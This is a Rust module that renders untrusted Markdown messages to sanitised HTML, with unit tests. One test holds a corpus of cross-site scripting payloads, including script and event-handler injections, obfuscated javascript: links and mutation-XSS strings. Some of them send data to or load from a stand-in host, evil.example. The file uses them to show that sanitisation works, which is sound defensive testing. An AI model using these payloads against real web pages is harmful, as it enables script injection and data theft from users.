//! Markdown to HTML: what people and models write is untrusted, so it passes two gates.
//!
//! The parser turns raw HTML into text, pictures into their alternative text and headings into paragraphs; the sanitiser
//! then keeps a short list of elements and of schemes. Either alone would do; a fault in one is caught by the other.

use ammonia::Builder;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};
use std::{collections::HashSet, sync::LazyLock};

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(["p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "br", "a"]))
        .add_tag_attributes("a", ["href"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener nofollow"));
    builder
});

/// The HTML of a message, safe to put into a page. `*an action*` becomes `<em>`; a line break stays a line break.
#[must_use]
pub fn render(text: &str) -> String {
    let events = Parser::new_ext(text, Options::empty()).filter_map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
        Event::SoftBreak => Some(Event::HardBreak),
        Event::Rule => None,
        Event::Start(Tag::HtmlBlock) => Some(Event::Start(Tag::Paragraph)),
        Event::End(TagEnd::HtmlBlock) => Some(Event::End(TagEnd::Paragraph)),
        Event::Start(Tag::Heading { .. }) => Some(Event::Start(Tag::Paragraph)),
        Event::End(TagEnd::Heading(_)) => Some(Event::End(TagEnd::Paragraph)),
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => None,
        other => Some(other),
    });
    let mut out = String::with_capacity(text.len() + text.len() / 4);
    html::push_html(&mut out, events);
    SANITISER.clean(&out).to_string()
}

/// The words of a message without its marks, on one line, at most `max` characters: for lists and announcements.
#[must_use]
pub fn plain(text: &str, max: usize) -> String {
    let mut words = String::new();
    for event in Parser::new_ext(text, Options::empty()) {
        match event {
            Event::Text(t) | Event::Code(t) | Event::Html(t) | Event::InlineHtml(t) => words.push_str(&t),
            Event::SoftBreak | Event::HardBreak | Event::End(TagEnd::Paragraph | TagEnd::Item | TagEnd::CodeBlock) => {
                words.push(' ');
            }
            _ => {}
        }
    }
    let line = words.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= max {
        return line;
    }
    let cut: String = line.chars().take(max.saturating_sub(1)).collect();
    format!("{}…", cut.trim_end())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn actions_paragraphs_and_breaks() {
        assert_eq!(render("*She looks up.* Oh."), "<p><em>She looks up.</em> Oh.</p>\n");
        assert_eq!(render("one\ntwo\n\nthree"), "<p>one<br>\ntwo</p>\n<p>three</p>\n");
        assert_eq!(render("# Loud"), "<p>Loud</p>\n");
        assert!(render("```\n<b>\n```").contains("<pre><code>&lt;b&gt;"));
        assert!(render("[x](https://example.org)").contains(r#"href="https://example.org" rel="noopener nofollow""#));
        assert_eq!(render("3 < 4 & 5 > 2").trim(), "<p>3 &lt; 4 &amp; 5 &gt; 2</p>");
    }

    #[test]
    fn nothing_runs_and_nothing_is_fetched() {
        let corpus = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/?q=secret)",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\nscript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](vbscript:msgbox)",
            "[x](//evil.example)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
            "</p></div><form action=https://evil.example><button>x",
            "<p style=\"background:url(https://evil.example)\">x</p>",
            "<base href=https://evil.example>",
            "<meta http-equiv=refresh content=0>",
            "[ref]: javascript:alert(1)\n[ref]",
            "`<script>`",
            "```js onerror=x\"><script>alert(1)</script>\n```",
            "[a](https://x\" onmouseover=\"alert(1))",
            "*<b onclick=alert(1)>*",
        ];
        for text in corpus {
            let html = render(text);
            // Whatever stands between angle brackets must be one of ours; all else is text.
            for tag in html.split('<').skip(1) {
                let name: String =
                    tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
                assert!(
                    ["p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "br", "a"]
                        .contains(&name.as_str()),
                    "{text:?} gave {html}"
                );
                let inside = tag.split('>').next().unwrap_or_default();
                let rest = inside.trim_start_matches('/').trim_start_matches(name.as_str());
                let allowed = rest.is_empty()
                    || (name == "a"
                        && (rest == " rel=\"noopener nofollow\""
                            || [" href=\"http:", " href=\"https:", " href=\"mailto:"]
                                .iter()
                                .any(|p| rest.starts_with(p)))
                        && !rest.contains(" on"));
                assert!(allowed, "{text:?} gave {html}");
            }
        }
    }

    #[test]
    fn words_for_lists() {
        assert_eq!(plain("*She nods.*\n\nYes, **now**.", 100), "She nods. Yes, now.");
        assert_eq!(plain("one two three", 8), "one two…");
        assert_eq!(plain("<b>x</b>", 20), "<b>x</b>");
    }
}
